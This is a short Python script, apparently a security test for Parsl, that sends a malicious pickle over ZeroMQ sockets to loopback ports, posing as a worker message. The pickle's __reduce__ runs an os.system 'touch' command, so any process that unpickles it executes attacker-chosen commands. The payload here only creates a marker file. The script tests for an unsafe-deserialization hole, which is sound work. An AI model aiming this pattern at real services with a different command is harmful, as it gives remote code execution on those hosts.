"""Sends a pickle that makes a file to ports of loopback, as a message of a Parsl worker. Whoever unpickles it is taken over.

    intruder.py FILE SERVER-PUBLIC-KEY [DIRECTORY-OF-KEYS] -- PORT…
"""

import os
import pickle
import sys
import time

import zmq
import zmq.auth

dashes = sys.argv.index("--")
mark, server, *own = sys.argv[1:dashes]


class Payload:
    def __reduce__(self):
        return os.system, ("touch " + mark,)


context = zmq.Context()
# a socket that nobody has is closed
sockets = []
for port in sys.argv[dashes + 1 :]:
    for kind in (zmq.DEALER, zmq.REQ, zmq.REP):
        for keys in ("none", "own"):
            socket = context.socket(kind)
            sockets.append(socket)
            socket.setsockopt(zmq.LINGER, 0)
            if own:
                pair = zmq.auth.load_certificate(os.path.join(own[0], "client.key_secret"))
            else:
                pair = zmq.curve_keypair()
            if keys == "own":
                socket.setsockopt(zmq.CURVE_PUBLICKEY, pair[0])
                socket.setsockopt(zmq.CURVE_SECRETKEY, pair[1])
                socket.setsockopt(zmq.CURVE_SERVERKEY, server.encode())
            socket.connect("tcp://127.0.0.1:" + port)
            if kind != zmq.REP:
                socket.send(pickle.dumps(Payload()))
# until all of them have arrived, also on a busy machine
time.sleep(10)
print("sent", flush=True)
os._exit(0)
